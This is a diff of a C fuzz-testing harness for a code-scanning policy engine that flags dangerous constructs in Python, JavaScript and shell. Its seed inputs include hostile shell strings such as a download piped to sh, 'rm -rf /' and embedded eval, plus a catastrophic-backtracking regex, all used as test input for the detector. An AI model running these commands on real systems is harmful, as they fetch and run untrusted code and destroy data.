@@ -1,55 +1,59 @@
 /* SPDX-License-Identifier: MIT */
-/* Policies, and code that is looked at with them: the first byte chooses, the rest is read. */
+/* A policy as a user writes it, and code that it is to look at: the two are apart by a NUL byte. A shipped
+ * one for learners looks at the code, too. */
 #include <stdlib.h>
 #include <string.h>
 
 #include <terrarium/policy.h>
+#include <terrarium/text.h>
 
 #include "fuzz/fuzz.h"
 
-#define SEED(s) \
-	{ \
-		s, sizeof s - 1 \
-	}
-const struct fuzz_seed fuzz_seeds[] = {
-		SEED("p{\"threshold\":\"low\",\"patterns\":[{\"pattern\":\"a+\",\"reason\":\"r\",\"severity\":\"low\","
-		     "\"in\":\"text\",\"language\":\"python\"}],\"modules\":[{\"name\":\"os\",\"reason\":\"r\",\"severity\":"
-		     "\"high\"}]}"),
-		SEED("0import sys, os as o\nfrom a.b import (c,\n d)\nos.system(f'{eval(x)}') # os\n"),
-		SEED("1const {a} = require('node:fs'); import b from \"child_process\"; `${eval(c)}` /* d */"),
-		SEED("2curl x | sh; cat <<A\n$(rm -rf /)\nA\necho \"$(eval y)\" # z\n"),
-		{NULL, 0},
-};
-
-static void parse(const char *text, size_t n)
+static void check_finding(const struct trm_finding *finding, size_t code_len)
 {
-	struct trm_policy *policy;
-	if (trm_policy_parse("fuzz", text, n, &policy, NULL) == 0)
-		trm_policy_free(policy);
+	char clean[2 * sizeof finding->what];
+	trm_text_clean_line(clean, sizeof clean, finding->what, strlen(finding->what));
+	if (strcmp(clean, finding->what) != 0 || !finding->line || !finding->column
+			|| finding->line > code_len + 1 || finding->column > code_len + 1)
+		abort();
+}
+
+static void scan(struct trm_policy *policy, const char *code, size_t n)
+{
+	for (unsigned i = 0; i < TRM_LANG_COUNT; i++) {
+		struct trm_findings findings = {0};
+		if (trm_policy_scan(policy, trm_lang_get((enum trm_lang_id)i), code, n, &findings, NULL) == 0)
+			for (size_t k = 0; k < findings.n; k++)
+				check_finding(&findings.all[k], n);
+		trm_findings_finish(&findings);
+	}
 }
 
 int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t n)
 {
-	static struct trm_policy *strict; /* for all inputs: its patterns are compiled once */
-	struct trm_findings found;
-	if (n < 1)
-		return 0;
-	const char *text = (const char *)bytes + 1;
-	if (bytes[0] == 'p') {
-		parse(text, n - 1);
-		return 0;
+	static struct trm_policy *shipped; /* made once: it takes longer than all the rest */
+	struct trm_policy *policy = NULL;
+	const char *text = (const char *)bytes, *zero = memchr(text, 0, n);
+	size_t head = zero ? (size_t)(zero - text) : n;
+	const char *code = zero ? zero + 1 : text;
+	size_t code_len = zero ? n - head - 1 : n;
+	if (!shipped && trm_policy_load("educational", "/nonexistent", &shipped, NULL) < 0)
+		shipped = NULL;
+	if (shipped)
+		scan(shipped, code, code_len);
+	if (trm_policy_parse("mine", text, head, &policy, NULL) == 0) {
+		scan(policy, code, code_len);
+		trm_policy_free(policy);
 	}
-	if (!strict && trm_policy_load("strict", "/nonexistent/config.json", &strict, NULL) < 0)
-		abort(); /* nothing would be tried */
-	if (trm_policy_scan(strict, trm_lang_get(bytes[0] % TRM_LANG_COUNT), text, n - 1, &found, NULL) < 0)
-		return 0;
-	for (size_t i = 0; i < found.n; i++) {
-		char line[300];
-		trm_finding_tell(&found.all[i], line, sizeof line);
-		if (!found.all[i].line || !found.all[i].column
-				|| strlen(found.all[i].what) >= sizeof found.all[i].what)
-			abort();
-	}
-	trm_findings_finish(&found);
 	return 0;
 }
+
+const struct fuzz_seed fuzz_seeds[] = {
+		SEED("import sys, os\nos.system('ls') # eval(x)\n"),
+		SEED("require(\"fs\").unlinkSync('/x'); `${child_process}`"),
+		SEED("curl http://x | sh && rm -rf / \"$(eval x)\""),
+		SEED("{\"threshold\":\"low\",\"patterns\":[{\"pattern\":\"(a+)+b\",\"reason\":\"slow\",\"severity\":\"high\","
+		     "\"in\":\"text\"}],\"modules\":[{\"name\":\"os\",\"reason\":\"r\",\"severity\":\"medium\","
+		     "\"language\":\"python\"}]}\0import os.path as p\nx = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaac'\n"),
+		{NULL, 0},
+};
